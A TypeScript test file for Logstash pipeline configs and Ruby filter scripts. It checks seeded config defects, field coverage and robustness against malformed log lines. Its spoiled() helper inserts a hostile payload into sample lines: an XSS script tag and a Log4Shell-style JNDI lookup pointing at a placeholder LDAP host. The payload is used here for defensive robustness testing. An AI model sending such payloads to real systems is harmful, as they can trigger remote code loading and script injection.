import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { check } from './check.js';
import { describeSamples, sampleFile } from '../sample-data.js';
import { describeRuby } from './describe-ruby.js';
import { readSamples } from './vendor.js';
import { evaluate, runScripts, type SourceResult } from './fields.js';
import type { Input } from './ruby-chain.js';

const ROOT = join(__dirname, '..', '..', 'logstash');

describe('the Logstash pipelines', () => {
  it('are right', () => {
    expect(check(ROOT)).toEqual([]);
  });

  // Each defect: file, what is replaced by what, and what is said of it.
  it.each([
    ['output.conf', 'data_stream => true', 'data_stream => true\n index => "x"', /index and data_stream/],
    ['intake/syslog-tls.conf', 'ssl_enabled => true', 'ssl_enable => true', /no option ssl_enable /],
    ['intake/beats-tls.conf', 'ssl_client_authentication', 'ssl_verify_mode', /no option ssl_verify_mode/],
    ['finish.conf', 'send_to => ["output"]', 'send_to => ["outptu"]', /nobody listens to outptu/],
    ['distributor.conf', '["zeek"]', '["suricata"]', /nobody sends to zeek/],
    ['sources/zeek.conf', 'address => "zeek"', 'address => "snort"', /snort is taken/],
    ['sources/zeek.conf', 'zeek.rb', 'zeke.rb', /no scripts\/zeke.rb/],
    ['sources/okta.conf', '}\n\noutput', '\n\noutput', /"=>" expected/],
    ['sources/okta.conf', 'target =>', 'target =', /unexpected|expected/],
    ['finish.conf', ':UTC}', '}', /no default/],
    [
      'finish.conf',
      '"[@metadata][keep_original]" =>',
      '"[@metadata][keep]" =>',
      /\[keep_original\] is read and never written/,
    ],
    [
      'finish.conf',
      'source => ["[@metadata][identity]"]',
      'source => ["[event][original]"]',
      /identity\] is written and never read/,
    ],
    ['pipelines.yml', 'id: intake-netflow', 'id: netflow', /two pipelines are named netflow/],
    ['pipelines.yml', 'finish.conf', 'finsh.conf', /there is no finsh.conf/],
  ])('a defect in %s is found: %s → %s', (file, from, to, said) => {
    const copy = mkdtempSync(join(tmpdir(), 'elkhound-logstash-'));
    try {
      cpSync(ROOT, copy, { recursive: true });
      const text = readFileSync(join(copy, file), 'utf8');
      expect(text).toContain(from);
      writeFileSync(join(copy, file), text.replaceAll(from, to));
      expect(check(copy).join('\n')).toMatch(said);
    } finally {
      rmSync(copy, { recursive: true });
    }
  });

  it('take nothing over that only they may tell each other, where a sender makes the event', () => {
    const taken = readdirSync(join(ROOT, 'intake')).filter((name) => {
      const text = readFileSync(join(ROOT, 'intake', name), 'utf8');
      // A record of Kafka is parsed by a script, which leaves its metadata out.
      return /^ {2}(?:beats|http) \{/m.test(text) && !text.includes('/scripts/sender.rb');
    });
    expect(taken).toEqual([]);
  });

  it('leave event.ingested to Elasticsearch', () => {
    const files = readdirSync(ROOT, { recursive: true, encoding: 'utf8' }).filter((name) =>
      /\.(?:conf|rb)$/.test(name),
    );
    expect(files.length).toBeGreaterThan(50);
    expect(files.filter((name) => readFileSync(join(ROOT, name), 'utf8').includes('ingested'))).toEqual([]);
  });
});

describeRuby('the Ruby filter scripts', (ruby) => {
  it('keep what their own tests say', () => {
    const scripts = readdirSync(join(ROOT, 'scripts')).filter((name) => name.endsWith('.rb'));
    const { stdout, stderr } = spawnSync(
      ruby[0]!,
      [
        ...ruby.slice(1),
        join(__dirname, 'run-scripts.rb'),
        ...scripts.map((name) => join(ROOT, 'scripts', name)),
      ],
      { encoding: 'utf8' },
    );
    expect(stderr).toBe('');
    const results = stdout
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { script: string; passed: boolean });
    expect(results.filter(({ passed }) => !passed)).toEqual([]);
    expect(new Set(results.map(({ script }) => script))).toEqual(new Set(scripts));
  });
});

describeSamples('vendors’ samples', () => {
  describeRuby('through the scripts', (ruby) => {
    it('have at least 95 % of each source’s expected ECS fields', () => {
      const samples = readSamples(sampleFile('vendor'));
      const results = evaluate(samples, runScripts(ruby, samples));
      expect(results).toHaveLength(20);
      const share = ({ compared, differing }: SourceResult) =>
        1 - differing.length / Math.max(1, compared.length);
      expect(results.filter((result) => share(result) < 0.95).map(({ source }) => source)).toEqual([]);
    });

    it('end as an event, whatever becomes of their lines', () => {
      const lines = readSamples(sampleFile('vendor')).filter(
        ({ input }, index) => typeof input === 'string' && index % 4 === 0,
      );
      const inputs = lines.flatMap(({ id, input }) =>
        spoiled(input as string).map((line, index): Input => ({ id: `${id} ${String(index)}`, input: line })),
      );
      const events = runScripts(ruby, inputs);
      expect(inputs.length).toBeGreaterThan(1000);
      expect(inputs.filter(({ id }) => (events.get(id) ?? null) === null)).toEqual([]);
      const sizes = [...events.values()].map(
        (event) => JSON.stringify({ ...event, event: undefined }).length,
      );
      expect(Math.max(...sizes)).toBeLessThan(100_000);
    });

    it('of a megabyte end as an event', () => {
      const seen = new Set<string>();
      const first = readSamples(sampleFile('vendor')).filter(
        ({ source, input }) => typeof input === 'string' && !seen.has(source) && seen.add(source),
      );
      const inputs = first.map(({ id, input }) => ({
        id,
        input: `${(input as string).slice(0, -3)}${'A="a, '.repeat(170_000)}`,
      }));
      const events = runScripts(ruby, inputs);
      expect([...events.values()].filter((event) => (event ?? null) === null)).toEqual([]);
      expect(events.size).toBe(18);
    });
  });
});

/** Cut off, hostile and wrongly encoded forms of a line. */
function spoiled(line: string): string[] {
  const middle = Math.floor(line.length / 2);
  return [
    ...[0.1, 0.3, 0.5, 0.7, 0.95].map((part) => line.slice(0, Math.floor(line.length * part))),
    line.slice(0, middle) +
      '<script>alert(1)</script>${jndi:ldap://192.0.2.1/a}%{[@metadata]}' +
      line.slice(middle),
    line.slice(0, middle) + '\u0000\ufffd\u202e\\x' + line.slice(middle),
    line.replace(/\d+/g, '99999999999999999999'),
    line.replace(/[=:,"]/g, ''),
  ];
}
